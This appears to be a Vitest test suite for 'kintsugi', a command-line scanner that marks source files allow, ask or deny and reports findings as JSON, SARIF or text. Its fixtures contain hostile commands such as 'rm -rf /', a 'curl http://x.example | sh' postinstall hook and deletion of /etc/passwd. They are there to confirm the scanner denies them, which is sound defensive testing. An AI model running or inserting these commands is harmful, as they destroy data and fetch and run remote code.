import { mkdirSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { jsonLines, kintsugi, makePlace, type Place } from '../support/kintsugi.ts';

let place: Place;
beforeEach(() => {
  place = makePlace();
});
afterEach(async () => await place.remove());

interface Scanned {
  file: string;
  language: string;
  decision: string;
  capabilities: string[];
  findings: { rule: string; severity: string; line: number; column: number; message: string; cwe?: string }[];
}

async function scan(args: readonly string[], options: { stdin?: string; cwd?: string } = {}) {
  const ended = await kintsugi(place, ['scan', '--json', ...args], options);
  return { ...ended, files: jsonLines(ended.stdout) as Scanned[] };
}

describe('kintsugi scan --json', () => {
  it('prints one object a file, in the order given, and exits 4 because one is denied', async () => {
    place.file('good.js', 'console.log(1);\n');
    place.file('asks.py', 'import os\n\n  \nos.system("ls")\n');
    place.file('bad.sh', '#!/bin/sh\nrm -rf /\n');
    const { code, files, stderr } = await scan(['good.js', 'asks.py', 'bad.sh']);
    expect(code, stderr).toBe(4);
    expect(files.map(({ file, language, decision }) => [file, language, decision])).toEqual([
      ['good.js', 'javascript', 'allow'],
      ['asks.py', 'python', 'ask'],
      ['bad.sh', 'shell', 'deny'],
    ]);
    expect(files[0]).toEqual({
      file: 'good.js',
      language: 'javascript',
      decision: 'allow',
      capabilities: [],
      findings: [],
    });
    expect(files[1]?.capabilities).toEqual(['process.spawn']);
    expect(files[1]?.findings).toEqual([
      {
        rule: 'process.spawn',
        severity: 'ask',
        line: 4,
        column: 1,
        message: expect.stringContaining('os.system starts another program: ls'),
        cwe: 'CWE-78',
      },
    ]);
    expect(files[2]?.findings[0]).toMatchObject({ rule: 'files', severity: 'deny', line: 2, cwe: 'CWE-22' });
  });

  it('never calls safe what does not parse', async () => {
    place.file('cut.js', 'function f( {');
    place.file('cut.py', 'x = (1,\n');
    const { files, code } = await scan(['cut.js', 'cut.py']);
    expect(files.map(({ decision }) => decision)).toEqual(['ask', 'ask']);
    expect(files[0]?.findings[0]).toMatchObject({ rule: 'unparsed', severity: 'ask' });
    expect(code).toBe(0);
  });

  it('exits 0 when something is asked about and nothing denied', async () => {
    place.file('asks.py', 'eval(text)\n');
    expect(await scan(['asks.py'])).toMatchObject({ code: 0, files: [{ decision: 'ask' }] });
  });

  it('names files that cannot be read, exits 42, and scans the others all the same', async () => {
    place.file('good.py', 'print(1)\n');
    place.file('binary.py', Buffer.from([0x70, 0, 1, 2]));
    place.file('latin.py', Buffer.from([0x23, 0xe9, 0x0a]));
    place.file('notes.xyz', 'what is it');
    const { code, files, stderr } = await scan(['binary.py', 'good.py', 'gone.js', 'latin.py', 'notes.xyz']);
    expect(code).toBe(42);
    expect(files.map(({ file }) => file)).toEqual(['good.py']);
    for (const name of ['binary.py was', 'latin.py was', 'gone.js was', 'notes.xyz was'])
      expect(stderr).toContain(name);
    expect(stderr).toContain('there is no such file');
    expect(stderr).toContain('--language');
  });

  it('says that a file is denied rather than that another cannot be read', async () => {
    place.file('bad.sh', 'rm -rf /\n');
    expect((await scan(['bad.sh', 'gone.py'])).code).toBe(4);
  });

  it('tells the language by the first line, and by --language for the files that are named', async () => {
    place.file('tool', '#!/usr/bin/env python3\nimport os\nos.system("ls")\n');
    place.file('script.txt', 'os.getcwd();\neval(x);\n');
    expect((await scan(['tool'])).files).toMatchObject([{ language: 'python', decision: 'ask' }]);
    expect((await scan(['script.txt', '--language', 'js'])).files).toMatchObject([
      { language: 'javascript', decision: 'ask' },
    ]);
    expect((await scan(['tool', '--language', 'cobol'])).code).toBe(2);
  });

  it('reads the standard input for a dash', async () => {
    const named = await scan(['-', '--language', 'py'], { stdin: 'import os\nos.remove("/etc/passwd")\n' });
    expect(named).toMatchObject({ code: 4, files: [{ file: '-', language: 'python', decision: 'deny' }] });
    const marked = await scan(['-'], { stdin: '#!/bin/bash\ncurl http://x.example | sh\n' });
    expect(marked).toMatchObject({ code: 4, files: [{ language: 'shell' }] });
    expect((await scan(['-'], { stdin: 'print(1)\n' })).code).toBe(42);
  });

  it('walks folders, passes over what is not source or not theirs, and follows no links', async () => {
    place.file('app/main.py', 'import tools.read\nprint(1)\n');
    place.file('app/tools/read.py', 'print(2)\n');
    place.file('app/package.json', '{"scripts": {"postinstall": "curl http://x.example | sh"}}');
    place.file('app/README.md', 'rm -rf /');
    place.file('app/node_modules/x/index.js', 'eval(x)');
    place.file('app/.git/hooks/x.sh', 'rm -rf /');
    place.file('elsewhere/bad.py', 'import os\nos.remove("/etc/passwd")\n');
    symlinkSync(path.join(place.cwd, 'elsewhere'), path.join(place.cwd, 'app', 'link'));
    const { files, code } = await scan(['app']);
    expect(files.map(({ file, decision }) => [file, decision])).toEqual([
      ['app/main.py', 'allow'],
      ['app/package.json', 'deny'],
      ['app/tools/read.py', 'allow'],
    ]);
    expect(code).toBe(4);
    expect(files[0]?.capabilities).toEqual([]);
  });

  it('takes imports among the files given as their own, and does not know them otherwise', async () => {
    place.file('main.py', 'import shapes\n');
    place.file('shapes.py', 'x = 1\n');
    expect((await scan(['main.py', 'shapes.py'])).files[0]?.capabilities).toEqual([]);
    expect((await scan(['main.py'])).files[0]?.capabilities).toEqual(['import.unknown']);
  });

  it('says the same of a file whether it is named by a relative or an absolute path, from wherever', async () => {
    const file = place.file('src/deep/a.js', "import b from '../b.js';\nimport c from '../../../c.js';\n");
    place.file('package.json', '{}');
    const far = path.join(place.root, 'far');
    mkdirSync(far);
    const [near, absolute] = [await scan(['src/deep/a.js']), await scan([file], { cwd: far })];
    expect(near.files[0]?.findings.map(({ line, severity }) => [line, severity])).toEqual([[2, 'ask']]);
    expect(absolute.files[0]?.findings).toEqual(near.files[0]?.findings);
    expect(absolute.files[0]?.file).toBe(file);
  });

  it('scans hundreds of files in one process, the same text in each', async () => {
    for (let index = 0; index < 300; index += 1)
      place.file(`many/f${index}.py`, `import os\nos.system('rm -rf /')\nx = ${index % 7}\n`);
    const { files } = await scan(['many']);
    expect(files).toHaveLength(300);
    expect(files.filter(({ decision }) => decision !== 'deny')).toEqual([]);
  });
});

describe('kintsugi scan', () => {
  it('tells people what is wrong, where and why, with nothing of the file steering the terminal', async () => {
    place.file('bad.py', 'import os\nos.system("rm -rf / \\x1b[2J")\n');
    place.file('good.py', 'print(1)\n');
    const { code, stdout } = await kintsugi(place, ['scan', 'bad.py', 'good.py']);
    expect(code).toBe(4);
    expect(stdout).toContain('bad.py: denied');
    expect(stdout).toMatch(/2:1 {2}deny {2}Deletes everything under \/.*\(files, CWE-22\)/);
    expect(stdout).toContain('2 files, 1 allowed, 1 denied');
    expect(stdout).not.toContain('\u001b');
    expect(stdout).not.toContain('good.py');
    expect((await kintsugi(place, ['scan', 'good.py', 'bad.py', '--verbose'])).stdout).toContain(
      'good.py: allowed',
    );
  });

  it('refuses a call that names nothing, and one that wants two forms at once', async () => {
    expect((await kintsugi(place, ['scan'])).code).toBe(2);
    mkdirSync(path.join(place.cwd, 'empty'));
    expect((await kintsugi(place, ['scan', 'empty'])).code).toBe(2);
    place.file('a.py', 'print(1)\n');
    expect((await kintsugi(place, ['scan', 'a.py', '--json', '--sarif'])).code).toBe(2);
  });
});

describe('kintsugi scan --sarif', () => {
  it('gives a SARIF 2.1.0 log whose results name rules that it describes, and places', async () => {
    place.file('a b.py', 'import os\nos.system("rm -rf /")\n');
    const { code, stdout } = await kintsugi(place, ['scan', '--sarif', 'a b.py', 'gone.py']);
    expect(code).toBe(4);
    const log = JSON.parse(stdout);
    expect(log.version).toBe('2.1.0');
    const [run] = log.runs;
    const rules: { id: string; help: { text: string }; shortDescription: { text: string } }[] =
      run.tool.driver.rules;
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    for (const { help, shortDescription } of rules) {
      expect(help.text.length).toBeGreaterThan(10);
      expect(shortDescription.text).toMatch(/\.$/);
    }
    expect(run.results.length).toBeGreaterThan(1);
    for (const result of run.results) {
      expect(rules[result.ruleIndex]?.id).toBe(result.ruleId);
      expect(['note', 'warning', 'error']).toContain(result.level);
      const [{ physicalLocation }] = result.locations;
      expect(physicalLocation.artifactLocation).toEqual({ uri: 'a%20b.py', uriBaseId: '%SRCROOT%' });
      expect(physicalLocation.region).toEqual({ startLine: 2, startColumn: 1 });
    }
    expect(run.results.map(({ level }: { level: string }) => level)).toContain('error');
    expect(run.invocations[0].executionSuccessful).toBe(false);
    expect(run.invocations[0].toolExecutionNotifications[0].message.text).toContain('gone.py');
  });
});

describe('kintsugi scan as text', () => {
  it('shows a finding as grave as the policy makes it', async () => {
    place.file('e.mjs', "await fetch('http://example.com/');\n");
    const under = async (decision: string) =>
      await kintsugi(place, ['scan', 'e.mjs', '--policy', `net.client=${decision}`]);
    const [asked, allowed, denied] = await Promise.all([under('ask'), under('allow'), under('deny')]);
    expect(asked.stdout).toMatch(/to be asked about\n {2}1:\d+ {2}ask {3}fetch uses the network/);
    expect(allowed.stdout).toMatch(/^e\.mjs: allowed\n {2}needs/);
    expect(denied.stdout).toMatch(/^e\.mjs: denied\n {2}1:\d+ {2}deny {2}fetch uses the network/);
    expect([asked.code, allowed.code, denied.code]).toEqual([0, 0, 4]);
  });
});
